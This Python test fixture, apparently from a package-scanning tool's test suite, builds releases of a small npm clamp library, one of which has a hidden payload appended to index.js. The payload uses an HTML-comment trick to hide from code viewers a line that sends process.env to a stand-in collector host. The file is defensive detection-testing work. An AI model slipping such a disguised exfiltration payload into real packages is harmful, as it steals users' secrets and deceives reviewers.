"""Code behind a comment as HTML writes it, which Node knows and most programs that show code do not.

Behind a line without a semicolon, `<!-- /*` reads as an operator and the begin of a comment; in Node
it is a comment of one line. Found by trying to deceive this very search.

In the staged tarball: `<!--` in the midst of code, and what takes secrets and sends them away below.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.clamp = (n, low, high) => Math.min(Math.max(n, low), high);\n"
_NEXT = _SOURCE + "exports.version = 2\n"
_HIDDEN = """<!-- /*<<<html-comment>>>
const body = JSON.stringify(process.env);
fetch('https://collector.example.invalid/', { method: 'POST', body });<<<exfiltration>>>
// */
"""

ATTACK = Attack(
    before=release("number-clamp", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("number-clamp", "1.1.0", {"index.js": _NEXT}),
    after={"no semicolon": release("number-clamp", "1.1.0", {"index.js": _NEXT + _HIDDEN})},
)
